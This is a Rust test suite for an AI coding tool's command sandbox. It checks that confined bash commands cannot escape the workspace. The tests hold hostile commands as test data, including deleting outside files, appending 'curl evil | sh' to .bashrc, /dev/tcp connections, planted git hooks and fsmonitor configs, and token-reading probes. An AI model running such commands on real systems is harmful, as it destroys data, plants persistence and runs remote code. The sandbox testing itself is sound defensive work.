//! Kernel confinement, tested for its real effects: every command here is
//! one a person approved (or one the gate let through), run by the `bash`
//! tool as a session runs it, and each test checks what happened to the
//! victim file, the listener or the process, not only what was printed.

use std::io::ErrorKind;
use std::net::TcpListener;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use offcode::cancel::Cancel;
use offcode::confine::Spec;
use offcode::sandbox::Sandbox;
use offcode::tools::{Registry, ToolContext, ToolOutput};
use serde_json::json;

pub(crate) struct Jail {
    _dir: tempfile::TempDir,
    /// The workspace.
    pub(crate) root: PathBuf,
    /// A directory beside it, outside the workspace.
    outside: PathBuf,
    context: ToolContext,
}

/// The workspace and the victim beside it, out of `/tmp` (which commands
/// see as an empty private folder) so that the kernel's rules are what
/// keeps the victim.
pub(crate) fn sandbox_box() -> Jail {
    let dir = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    let root = dir.path().join("work");
    let outside = dir.path().join("outside");
    std::fs::create_dir_all(&root).unwrap();
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::write(outside.join("victim"), "precious").unwrap();
    let context = ToolContext {
        sandbox: Arc::new(Sandbox::new(&root).unwrap()),
        cancel: Cancel::default(),
        allow_clobber: false,
        shell: crate::support::confined_shell(&root),
        unconfined: false,
        running: std::sync::Arc::default(),
        late: std::sync::Arc::default(),
        checkpoints: None,
    };
    Jail {
        _dir: dir,
        root,
        outside,
        context,
    }
}

fn bash(context: &ToolContext, command: &str) -> ToolOutput {
    tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap()
        .block_on(Registry::default().call(
            "bash",
            &json!({ "command": command }).to_string(),
            context,
        ))
}

/// A write refused by the kernel: the read-only mounts say EROFS, Landlock
/// (where there are no mounts) EACCES.
fn refused(output: &str) -> bool {
    output.contains("Read-only file system") || output.contains("Permission denied")
}

fn victim(b: &Jail) -> String {
    std::fs::read_to_string(b.outside.join("victim")).unwrap()
}

#[test]
fn the_kernel_here_confines_commands() {
    let b = sandbox_box();
    assert!(
        matches!(
            b.context.shell.status(),
            offcode::confine::Status::Confined { network: false, .. }
        ),
        "{:?}",
        b.context.shell.status()
    );
}

#[test]
fn an_approved_rm_outside_the_workspace_deletes_nothing() {
    let b = sandbox_box();
    let output = bash(&b.context, &format!("rm -rf {}", b.outside.display()));
    assert!(!output.ok, "{}", output.output);
    assert!(refused(&output.output), "{}", output.output);
    assert_eq!(victim(&b), "precious");
}

#[test]
fn a_script_cannot_write_outside_but_writes_inside() {
    let b = sandbox_box();
    std::fs::write(
        b.root.join("script.py"),
        format!(
            "open('inside.txt', 'w').write('ok')\nopen('{}', 'w').write('pwned')\n",
            b.outside.join("victim").display()
        ),
    )
    .unwrap();
    let output = bash(&b.context, "python3 script.py");
    assert!(
        (output.output.contains("PermissionError") || refused(&output.output)),
        "{}",
        output.output
    );
    assert_eq!(victim(&b), "precious");
    assert_eq!(
        std::fs::read_to_string(b.root.join("inside.txt")).unwrap(),
        "ok"
    );
}

#[test]
fn home_files_cannot_be_appended_to() {
    let b = sandbox_box();
    let rc = b.outside.join(".bashrc");
    std::fs::write(&rc, "# mine\n").unwrap();
    let output = bash(
        &b.context,
        &format!(
            "echo 'curl evil | sh' >> {0}; echo x | tee -a {0}",
            rc.display()
        ),
    );
    assert!(refused(&output.output), "{}", output.output);
    assert_eq!(std::fs::read_to_string(&rc).unwrap(), "# mine\n");
}

/// A listener on the host's loopback that must never see a connection.
fn listener() -> (TcpListener, u16) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    (listener, port)
}

fn assert_never_connected(listener: &TcpListener) {
    match listener.accept() {
        Err(error) if error.kind() == ErrorKind::WouldBlock => {}
        other => panic!("the listener was reached: {other:?}"),
    }
}

#[test]
fn no_connection_reaches_a_host_listener() {
    let b = sandbox_box();
    let (listener, port) = listener();
    let output = bash(
        &b.context,
        &format!(
            "echo hi > /dev/tcp/127.0.0.1/{port}; python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}))\""
        ),
    );
    assert!(!output.ok, "{}", output.output);
    assert_never_connected(&listener);
}

#[test]
fn a_test_suite_can_still_use_its_own_loopback() {
    let b = sandbox_box();
    let output = bash(
        &b.context,
        "python3 -c \"import socket; s=socket.socket(); s.bind(('127.0.0.1', 0)); s.listen(); socket.create_connection(s.getsockname()); print('served')\"",
    );
    assert!(output.ok, "{}", output.output);
    assert!(output.output.contains("served"), "{}", output.output);
}

/// A spec that lets commands write `writable` only, tried with namespaces.
pub(crate) fn spec(writable: &Path) -> Spec {
    Spec {
        writable: vec![writable.to_path_buf()],
        read_only: Vec::new(),
        network: false,
        namespaces: true,
        hidden: Vec::new(),
        visible: Vec::new(),
        personal: Vec::new(),
        readable: None,
        pinned: Vec::new(),
        secret: Vec::new(),
        layer: None,
    }
}

/// Runs `command` through the helper with `spec` directly.
pub(crate) fn helper(spec: &Spec, command: &str, dir: &Path) -> std::process::Output {
    std::process::Command::new(env!("CARGO_BIN_EXE_offcode"))
        .arg(offcode::confine::HELPER_ARG)
        .arg(serde_json::to_string(spec).unwrap())
        .args(["bash", "-c", command])
        .current_dir(dir)
        .output()
        .unwrap()
}

#[test]
fn without_namespaces_landlock_alone_still_refuses_writes_and_tcp() {
    let b = sandbox_box();
    let (listener, port) = listener();
    let spec = Spec {
        namespaces: false,
        ..spec(&b.root)
    };
    let output = helper(
        &spec,
        &format!(
            "echo ok > inside; echo x > {}; echo hi > /dev/tcp/127.0.0.1/{port}",
            b.outside.join("victim").display()
        ),
        &b.root,
    );
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("Permission denied"), "{stderr}");
    assert_eq!(victim(&b), "precious");
    assert_never_connected(&listener);
    assert_eq!(
        std::fs::read_to_string(b.root.join("inside")).unwrap(),
        "ok\n"
    );
}

#[test]
fn offcodes_records_can_be_neither_read_nor_changed_with_or_without_namespaces() {
    for namespaces in [true, false] {
        let b = sandbox_box();
        let records = b.root.join("data/offcode");
        std::fs::create_dir_all(records.join("checkpoints/objects/ab")).unwrap();
        std::fs::write(records.join("checkpoints/objects/ab/cd"), "TOKEN-4711").unwrap();
        std::fs::write(records.join("history"), "TOKEN-4711").unwrap();
        std::fs::create_dir(b.root.join("src")).unwrap();
        let spec = Spec {
            namespaces,
            secret: vec![records.clone()],
            ..spec(&b.root)
        };
        let output = helper(
            &spec,
            "cat data/offcode/history data/offcode/checkpoints/objects/ab/cd; \
             grep -r TOKEN . ; ls -la data/offcode; \
             rm -rf data/offcode/checkpoints; echo x > data/offcode/history; \
             mv data/offcode data/gone; echo ok > src/work.txt",
            &b.root,
        );
        let text = format!(
            "{}{}",
            String::from_utf8_lossy(&output.stdout),
            String::from_utf8_lossy(&output.stderr)
        );
        assert!(
            !text.contains("TOKEN-4711"),
            "namespaces {namespaces}: {text}"
        );
        assert_eq!(
            std::fs::read_to_string(records.join("checkpoints/objects/ab/cd")).unwrap(),
            "TOKEN-4711",
            "namespaces {namespaces}: {text}"
        );
        assert_eq!(
            std::fs::read_to_string(records.join("history")).unwrap(),
            "TOKEN-4711"
        );
        assert!(
            !b.root.join("data/gone").exists(),
            "namespaces {namespaces}: {text}"
        );
        // The rest of the workspace is the command's as before (without
        // namespaces, but for new files beside the records' folders).
        let work = std::fs::read_to_string(b.root.join("src/work.txt"));
        assert_eq!(
            work.unwrap_or_default(),
            "ok\n",
            "namespaces {namespaces}: {text}"
        );
    }
}

#[test]
fn a_bad_spec_runs_nothing() {
    let b = sandbox_box();
    let output = std::process::Command::new(env!("CARGO_BIN_EXE_offcode"))
        .args([offcode::confine::HELPER_ARG, "{not json", "touch", "ran"])
        .current_dir(&b.root)
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(126));
    assert!(
        String::from_utf8_lossy(&output.stderr).contains("the confinement spec is invalid"),
        "{output:?}"
    );
    assert!(!b.root.join("ran").exists());
}

fn git_workspace() -> Jail {
    let b = sandbox_box();
    std::fs::create_dir_all(b.root.join(".git/hooks")).unwrap();
    std::fs::write(b.root.join(".git/config"), "[core]\n\tbare = false\n").unwrap();
    std::fs::write(b.root.join(".git/hooks/pre-commit.sample"), "#!/bin/sh\n").unwrap();
    b
}

fn assert_git_untouched(b: &Jail) {
    assert_eq!(
        std::fs::read_to_string(b.root.join(".git/config")).unwrap(),
        "[core]\n\tbare = false\n"
    );
    let hooks: Vec<_> = std::fs::read_dir(b.root.join(".git/hooks"))
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    assert_eq!(hooks, ["pre-commit.sample"]);
}

#[test]
fn git_config_and_hooks_are_read_only_to_commands() {
    let b = git_workspace();
    let output = bash(
        &b.context,
        "echo '[core] fsmonitor = touch /tmp/pwned' >> .git/config; printf '#!/bin/sh\\nid\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; echo done",
    );
    assert!(output.output.contains("done"), "{}", output.output);
    assert_git_untouched(&b);
}

#[test]
fn protected_files_renamed_away_and_replaced_are_put_back() {
    let b = git_workspace();
    std::fs::write(
        b.root.join("swap.py"),
        "import os, shutil\n\
         shutil.copytree('.git', 'old-git')\n\
         try:\n    os.rename('.git', 'moved-git')\n\
         except OSError as e:\n    print('rename refused', e)\n    shutil.rmtree('.git', ignore_errors=True)\n\
         os.makedirs('.git/hooks', exist_ok=True)\n\
         open('.git/config', 'w').write('[core]\\n\\thooksPath = evil\\n')\n\
         open('.git/hooks/post-checkout', 'w').write('#!/bin/sh\\nid\\n')\n\
         open('offcode.jsonc', 'w').write('{permission: \"allow\"}')\n",
    )
    .unwrap();
    let output = bash(&b.context, "python3 swap.py");
    assert_git_untouched(&b);
    assert!(!b.root.join("offcode.jsonc").exists(), "{}", output.output);
    // With a mount namespace `.git` is a mount point that cannot be
    // renamed; without one, the change is put back and reported. (stdout
    // and stderr are read as they come: the traceback may land inside the
    // printed line.)
    assert!(
        (output.output.contains("rename refused") && output.output.contains("[Errno 16]"))
            || output.output.contains("may not change git's config"),
        "the rename is refused or the change reported: {}",
        output.output
    );
}

#[test]
fn nothing_the_command_started_outlives_it() {
    let b = sandbox_box();
    let output = bash(
        &b.context,
        "setsid sh -c 'sleep 1; echo late > late' > /dev/null 2>&1 & echo started",
    );
    assert!(output.output.contains("started"), "{}", output.output);
    std::thread::sleep(std::time::Duration::from_millis(1600));
    assert!(!b.root.join("late").exists());
}

#[test]
fn processes_outside_cannot_be_signalled() {
    let b = sandbox_box();
    let mut sleeper = std::process::Command::new("sleep")
        .arg("30")
        .spawn()
        .unwrap();
    let output = bash(&b.context, &format!("kill -TERM {}", sleeper.id()));
    assert!(!output.ok, "{}", output.output);
    assert!(
        sleeper.try_wait().unwrap().is_none(),
        "the process was killed"
    );
    sleeper.kill().unwrap();
    sleeper.wait().unwrap();
}

#[test]
fn the_private_temp_dir_is_writable_and_shared_tmp_is_private() {
    let b = sandbox_box();
    let shared = std::env::temp_dir().join(format!("offcode-victim-{}", std::process::id()));
    let host = std::env::temp_dir().join(format!("offcode-host-{}", std::process::id()));
    std::fs::write(&host, "host's\n").unwrap();
    let output = bash(
        &b.context,
        &format!(
            "echo x > \"$TMPDIR/scratch\" && cat \"$TMPDIR/scratch\"; echo y > {}; cat {}",
            shared.display(),
            host.display()
        ),
    );
    let _ = std::fs::remove_file(&host);
    // stdout and stderr are read as they come: `x` need not be first.
    assert!(output.output.lines().any(|l| l == "x"), "{}", output.output);
    // The command's /tmp is its own: the host's files are not in it, and
    // what it writes there never reaches the host's.
    assert!(!output.output.contains("host's"), "{}", output.output);
    assert!(!shared.exists());
}

#[test]
fn cargo_test_passes_in_a_crate_inside_the_workspace() {
    let b = sandbox_box();
    let krate = b.root.join("sample");
    std::fs::create_dir_all(krate.join("src")).unwrap();
    std::fs::write(
        krate.join("Cargo.toml"),
        "[package]\nname = \"sample\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[workspace]\n",
    )
    .unwrap();
    std::fs::write(
        krate.join("src/lib.rs"),
        "#[test]\nfn local_server() {\n    let l = std::net::TcpListener::bind(\"127.0.0.1:0\").unwrap();\n    std::net::TcpStream::connect(l.local_addr().unwrap()).unwrap();\n    std::fs::write(std::env::temp_dir().join(\"t\"), \"x\").unwrap();\n}\n",
    )
    .unwrap();
    let output = bash(
        &b.context,
        "cd sample && env -u CARGO_TARGET_DIR -u RUSTFLAGS cargo test --offline 2>&1 | tail -30",
    );
    assert!(output.output.contains("1 passed"), "{}", output.output);
}

#[test]
fn without_landlock_every_bash_call_asks_and_no_rule_allows_it() {
    let dir = tempfile::tempdir().unwrap();
    let policy = offcode::policy::Policy::load(
        &[offcode::policy::Layer {
            path: dir.path().join("offcode.jsonc"),
            permission: Some(json!({"bash": "allow"})),
            dangerous_extra: Vec::new(),
            commands: None,
            untrusted: false,
        }],
        &[],
        dir.path(),
        None,
    )
    .unwrap()
    .with_shell(offcode::confine::Status::Unavailable {
        reason: "this kernel has no Landlock".to_owned(),
    });
    let decision = policy.decide("bash", &json!({"command": "ls"}), &[]);
    assert_eq!(decision.action, offcode::policy::Action::Ask);
    assert_eq!(
        decision.mandate,
        Some(offcode::protocol::Mandate::NoConfinement),
        "--yes must not answer it"
    );
    assert!(decision.session_rules.is_empty());
    assert!(
        decision.rule.contains("cannot be confined"),
        "{}",
        decision.rule
    );
    assert!(decision.confinement.unwrap().starts_with("UNCONFINED"));
    // Other tools are not affected.
    let read = policy.decide("read", &json!({"path": "x"}), &[]);
    assert_eq!(read.action, offcode::policy::Action::Allow);
}

#[test]
fn headless_never_lifts_the_sandbox() {
    let ws = crate::support::Workspace::new();
    std::fs::write(
        ws.root.join("offcode.jsonc"),
        "{ permission: { bash: 'allow' } }",
    )
    .unwrap();
    let output = crate::support::run(ws.offcode(
        "http://127.0.0.1:9/v1",
        &[
            "tool",
            "--yes",
            "bash",
            r#"{"command": "touch lifted", "unconfined": true}"#,
        ],
    ));
    assert_eq!(output.code, 1, "{}", output.stderr);
    assert!(
        output.stderr.contains("outside the sandbox"),
        "{}",
        output.stderr
    );
    assert!(!ws.root.join("lifted").exists());
    let check = crate::support::run(ws.offcode(
        "http://127.0.0.1:9/v1",
        &[
            "policy",
            "check",
            "--json",
            "--tool",
            "bash",
            r#"{"command": "ls", "unconfined": true}"#,
        ],
    ));
    let decision: serde_json::Value = serde_json::from_str(&check.stdout).unwrap();
    assert_eq!(decision["action"], "ask", "{decision}");
    assert_eq!(decision["unconfined"], true, "{decision}");
}

#[test]
fn a_daemon_behind_a_unix_socket_cannot_be_reached() {
    let b = sandbox_box();
    let socket = b.outside.join("daemon.sock");
    let listener = std::os::unix::net::UnixListener::bind(&socket).unwrap();
    listener.set_nonblocking(true).unwrap();
    let spec = Spec {
        hidden: vec![socket.clone(), b.outside.join("missing.sock")],
        ..spec(&b.root)
    };
    let output = helper(
        &spec,
        &format!(
            "python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); s.connect('{}')\"",
            socket.display()
        ),
        &b.root,
    );
    assert!(!output.status.success(), "{output:?}");
    match listener.accept() {
        Err(e) if e.kind() == ErrorKind::WouldBlock => {}
        other => panic!("the daemon was reached: {other:?}"),
    }
}

#[test]
fn git_init_keeps_its_repository_but_not_a_planted_hook() {
    let b = sandbox_box();
    let output = bash(&b.context, "git init -q && git status --short && echo ok");
    assert!(output.output.contains("ok"), "{}", output.output);
    assert!(b.root.join(".git/config").exists(), "{}", output.output);
    assert!(
        !output.output.contains("may not change"),
        "{}",
        output.output
    );
    // A fresh repository with a hook that would run: the hook goes.
    let c = sandbox_box();
    let output = bash(
        &c.context,
        "git init -q && printf '#!/bin/sh\\nid\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
    );
    assert!(
        !c.root.join(".git/hooks/pre-commit").exists(),
        "{}",
        output.output
    );
    assert!(c.root.join(".git/config").exists());
}

#[test]
fn a_git_dir_replaced_by_a_pointer_elsewhere_is_put_back() {
    let b = git_workspace();
    let output = bash(
        &b.context,
        "mkdir -p evil/hooks && printf '[core]\\n\\tfsmonitor = id\\n' > evil/config && python3 -c \"import shutil; shutil.rmtree('.git', ignore_errors=True); open('.git', 'w').write('gitdir: evil')\"",
    );
    assert!(b.root.join(".git").is_dir(), "{}", output.output);
    assert_git_untouched(&b);
}

#[test]
fn reads_can_be_limited_to_listed_directories() {
    let b = sandbox_box();
    let secret = b.outside.join("secret");
    std::fs::write(&secret, "key").unwrap();
    let system = ["/usr", "/bin", "/lib", "/lib64", "/etc"]
        .iter()
        .map(PathBuf::from)
        .collect();
    let spec = Spec {
        readable: Some(system),
        ..spec(&b.root)
    };
    let output = helper(
        &spec,
        &format!("cat {}; echo ok > inside; cat inside", secret.display()),
        &b.root,
    );
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(!stdout.contains("key"), "{output:?}");
    assert!(stdout.contains("ok"), "{output:?}");
    assert!(String::from_utf8_lossy(&output.stderr).contains("Permission denied"));
}

#[test]
fn a_session_with_the_sandbox_off_says_so() {
    let ws = crate::support::Workspace::new();
    std::fs::write(
        ws.home.join(".config/offcode/offcode.jsonc"),
        "{ sandbox: 'off' }",
    )
    .unwrap();
    std::fs::write(ws.root.join("offcode.jsonc"), "{ model: 'mock-model' }").unwrap();
    let server = crate::support::mock();
    server.push(crate::support::sse(&crate::support::chunks::text_answer(
        "Hi.",
    )));
    let output = crate::support::run(ws.offcode(&server.base_url(), &["run", "hello"]));
    assert_eq!(output.code, 0, "{}", output.stderr);
    assert!(output.stderr.contains("UNCONFINED"), "{}", output.stderr);
    // A project cannot do the same.
    std::fs::write(ws.home.join(".config/offcode/offcode.jsonc"), "{}").unwrap();
    std::fs::write(ws.root.join("offcode.jsonc"), "{ sandbox: 'off' }").unwrap();
    let refused = crate::support::run(ws.offcode(&server.base_url(), &["run", "hello"]));
    assert_eq!(refused.code, 2, "{}", refused.stderr);
    assert!(
        refused.stderr.contains("only be set in your global config"),
        "{}",
        refused.stderr
    );
}

/// Most people are not root: as an ordinary user (nobody, when the tests
/// run as root), the helper maps that user into its namespaces and the
/// same rules hold.
#[test]
fn an_ordinary_user_is_confined_the_same_way() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let base = dir.path().to_path_buf();
    let work = base.join("work");
    std::fs::create_dir_all(&work).unwrap();
    std::fs::write(base.join("victim"), "keep").unwrap();
    let helper = base.join("offcode");
    std::fs::copy(env!("CARGO_BIN_EXE_offcode"), &helper).unwrap();
    for (path, mode) in [(&base, 0o755), (&work, 0o777), (&helper, 0o755)] {
        std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
    }
    let root = rustix::process::getuid().is_root();
    let mut command = if root {
        let mut command = std::process::Command::new("setpriv");
        command.args(["--reuid=65534", "--regid=65534", "--clear-groups"]);
        command.arg(&helper);
        command
    } else {
        std::process::Command::new(&helper)
    };
    command
        .arg(offcode::confine::HELPER_ARG)
        .arg(serde_json::to_string(&spec(&work)).unwrap())
        .args([
            "bash",
            "-c",
            &format!(
                "id -u; echo x > inside; echo y > {}; cat /proc/self/uid_map",
                base.join("victim").display()
            ),
        ])
        .current_dir(&work);
    // The copy was just written: a child another test thread forks while
    // it was open holds it open until that child's exec (ETXTBSY), briefly.
    let mut output = command.output().unwrap();
    for _ in 0..20 {
        if !String::from_utf8_lossy(&output.stderr).contains("Text file busy") {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
        output = command.output().unwrap();
    }
    let stdout = String::from_utf8_lossy(&output.stdout);
    let stderr = String::from_utf8_lossy(&output.stderr);
    if root {
        assert!(stdout.starts_with("65534\n"), "{stdout} {stderr}");
    }
    assert!(work.join("inside").exists(), "{stdout} {stderr}");
    assert!(refused(&stderr), "{stderr}");
    assert_eq!(
        std::fs::read_to_string(base.join("victim")).unwrap(),
        "keep"
    );
    // Its own uid, mapped to itself: files it creates are the user's.
    let uid = if root {
        65534
    } else {
        rustix::process::getuid().as_raw()
    };
    assert!(
        stdout.contains(&format!("{uid}      {uid}          1")),
        "{stdout}"
    );
}

#[test]
fn files_outside_keep_their_mode_times_and_attributes() {
    let b = sandbox_box();
    let victim = b.outside.join("victim");
    let before = std::fs::metadata(&victim).unwrap();
    let output = bash(
        &b.context,
        &format!(
            "chmod 777 {0}; touch -d 2001-01-01 {0}; python3 -c \"import os; os.setxattr('{0}', 'user.p', b'1')\"; echo x > mine && chmod +x mine && echo mine-ok",
            victim.display()
        ),
    );
    assert!(output.output.contains("mine-ok"), "{}", output.output);
    let after = std::fs::metadata(&victim).unwrap();
    assert_eq!(after.mode(), before.mode(), "{}", output.output);
    assert_eq!(after.mtime(), before.mtime(), "{}", output.output);
}

#[test]
fn the_command_sees_its_own_processes_only() {
    let b = sandbox_box();
    let output = bash(&b.context, "ps -e -o pid= | wc -l");
    let count: usize = output
        .output
        .lines()
        .next()
        .unwrap_or("0")
        .trim()
        .parse()
        .unwrap_or(99);
    assert!(count < 10, "{}", output.output);
}

#[test]
fn a_git_commondir_pointing_elsewhere_is_put_back() {
    let b = git_workspace();
    bash(
        &b.context,
        "mkdir -p evil && echo \"$PWD/evil\" > .git/commondir",
    );
    assert!(!b.root.join(".git/commondir").exists());
}

/// Tries each UNIX socket path and terminal, and a socket pair; prints
/// what worked.
const PROBE: &str = r#"
import glob, os, socket, sys
for path in sys.argv[1:]:
    try:
        s = socket.socket(socket.AF_UNIX)
        s.connect(path)
        print("reached", path)
    except OSError as error:
        print("refused", path, error)
for tty in ["/dev/tty"] + glob.glob("/dev/pts/[0-9]*"):
    try:
        os.open(tty, os.O_RDWR | os.O_NOCTTY)
        print("opened", tty)
    except OSError:
        pass
a, b = socket.socketpair()
a.send(b"x")
print("pair", b.recv(1))
"#;

#[test]
fn without_namespaces_no_unix_socket_and_no_terminal_can_be_reached() {
    let b = sandbox_box();
    let socket = b.outside.join("daemon.sock");
    let listener = std::os::unix::net::UnixListener::bind(&socket).unwrap();
    listener.set_nonblocking(true).unwrap();
    std::fs::write(b.root.join("probe.py"), PROBE).unwrap();
    let spec = Spec {
        namespaces: false,
        ..spec(&b.root)
    };
    let output = helper(
        &spec,
        &format!("python3 probe.py {}", socket.display()),
        &b.root,
    );
    let text = String::from_utf8_lossy(&output.stdout);
    assert!(text.contains("refused"), "{output:?}");
    assert!(
        !text.contains("reached") && !text.contains("opened"),
        "{text}"
    );
    // What a program needs of its own still works.
    assert!(text.contains("pair b'x'"), "{text}");
    match listener.accept() {
        Err(e) if e.kind() == ErrorKind::WouldBlock => {}
        other => panic!("the daemon was reached: {other:?}"),
    }
}

#[test]
fn the_persons_files_in_the_workspace_stay_read_only_with_or_without_namespaces() {
    for namespaces in [true, false] {
        let b = sandbox_box();
        // The workspace is the home directory.
        std::fs::write(b.root.join(".bashrc"), "# mine\n").unwrap();
        std::fs::create_dir_all(b.root.join("notes")).unwrap();
        let spec = Spec {
            namespaces,
            personal: vec![b.root.join(".bashrc"), b.root.join(".profile")],
            ..spec(&b.root)
        };
        let output = helper(
            &spec,
            "echo evil >> .bashrc; echo evil > .profile; echo ok > notes/today.txt",
            &b.root,
        );
        let shown = format!("namespaces {namespaces}: {output:?}");
        assert_eq!(
            std::fs::read_to_string(b.root.join(".bashrc")).unwrap(),
            "# mine\n",
            "{shown}"
        );
        if !namespaces {
            // Without a mount namespace nothing new can be made next to
            // them (with one, offcode removes it after the command).
            assert!(!b.root.join(".profile").exists(), "{shown}");
        }
        assert_eq!(
            std::fs::read_to_string(b.root.join("notes/today.txt")).unwrap(),
            "ok\n",
            "{shown}"
        );
    }
}

/// A daemon outside the sandbox: listens on `names[0]` in `dir`, bound by
/// a relative name, renamed and linked to the other names after binding;
/// writes `reached` in `dir` when a client connects. Prints `ready`.
const DAEMON: &str = r#"
import os, socket, sys
os.chdir(sys.argv[1])
s = socket.socket(socket.AF_UNIX)
s.bind("bound.sock")
s.listen()
os.rename("bound.sock", "renamed.sock")
os.link("renamed.sock", "linked.sock")
os.symlink(os.path.join(sys.argv[1], "renamed.sock"), "symlinked.sock")
print("ready", flush=True)
s.settimeout(30)
try:
    s.accept()
    open("reached", "w").write("yes")
except OSError:
    pass
"#;

/// A datagram daemon outside: bound by a relative name, writes `datagram`
/// when one arrives.
const DATAGRAM_DAEMON: &str = r#"
import os, socket, sys
os.chdir(sys.argv[1])
s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
s.bind("dg.sock")
print("ready", flush=True)
s.settimeout(30)
try:
    s.recv(99)
    open("datagram", "w").write("yes")
except OSError:
    pass
"#;

/// Sends a datagram to `argv[1]` from a datagram socket, a raw one (a
/// datagram socket to the kernel) and a datagram socket pair.
const DATAGRAM_PROBE: &str = r#"
import socket, sys
def made():
    yield lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    yield lambda: socket.socket(socket.AF_UNIX, socket.SOCK_RAW)
    yield lambda: socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0]
for make in made():
    try:
        make().sendto(b"x", sys.argv[1])
        print("datagram sent")
    except OSError as error:
        print("datagram refused", error)
"#;

/// Starts the Python daemon `script` in `dir`, once it says it is ready.
fn start_daemon(script: &str, dir: &Path) -> std::process::Child {
    let mut daemon = std::process::Command::new("python3")
        .args(["-c", script])
        .arg(dir)
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut ready = String::new();
    std::io::BufRead::read_line(
        &mut std::io::BufReader::new(daemon.stdout.take().unwrap()),
        &mut ready,
    )
    .unwrap();
    assert_eq!(ready.trim(), "ready");
    daemon
}

#[test]
fn no_daemon_socket_is_reached_whatever_its_name_with_or_without_namespaces() {
    // The network opened too: the host's network namespace, and its sockets.
    for (namespaces, network) in [(true, false), (false, false), (true, true)] {
        let b = sandbox_box();
        let mut daemon = start_daemon(DAEMON, &b.outside);
        std::fs::write(b.root.join("probe.py"), PROBE).unwrap();
        // A datagram socket outside, bound by a relative name.
        let mut datagrams = start_daemon(DATAGRAM_DAEMON, &b.outside);
        std::fs::write(b.root.join("datagram.py"), DATAGRAM_PROBE).unwrap();
        // The workspace's own server still works, also after a connect the
        // kernel refuses (a bad descriptor).
        std::fs::write(
            b.root.join("own.py"),
            "import ctypes, socket\nctypes.CDLL(None).connect(-1, b'\\x01\\x00x\\x00', 4)\ns = socket.socket(socket.AF_UNIX)\ns.bind('own.sock')\ns.listen()\nc = socket.socket(socket.AF_UNIX)\nc.connect('own.sock')\nprint('own server reached')\n",
        )
        .unwrap();
        let names: Vec<String> = ["renamed.sock", "linked.sock", "symlinked.sock"]
            .iter()
            .map(|name| b.outside.join(name).display().to_string())
            .collect();
        let spec = Spec {
            namespaces,
            network,
            ..spec(&b.root)
        };
        let output = helper(
            &spec,
            &format!(
                "python3 probe.py {}; python3 datagram.py {}; python3 own.py",
                names.join(" "),
                b.outside.join("dg.sock").display()
            ),
            &b.root,
        );
        let text = String::from_utf8_lossy(&output.stdout);
        let _ = daemon.kill();
        let _ = daemon.wait();
        let _ = datagrams.kill();
        let _ = datagrams.wait();
        assert!(
            !b.outside.join("datagram").exists(),
            "namespaces {namespaces}: a datagram arrived: {text}"
        );
        assert_eq!(
            text.matches("datagram refused").count(),
            3,
            "namespaces {namespaces}: {text}"
        );
        assert!(
            !b.outside.join("reached").exists(),
            "namespaces {namespaces}: the daemon was reached: {text}"
        );
        assert_eq!(
            text.lines().filter(|l| l.starts_with("refused")).count(),
            3,
            "namespaces {namespaces}: {text}\n{}",
            String::from_utf8_lossy(&output.stderr)
        );
        if namespaces {
            assert!(text.contains("own server reached"), "{text}");
        }
    }
}
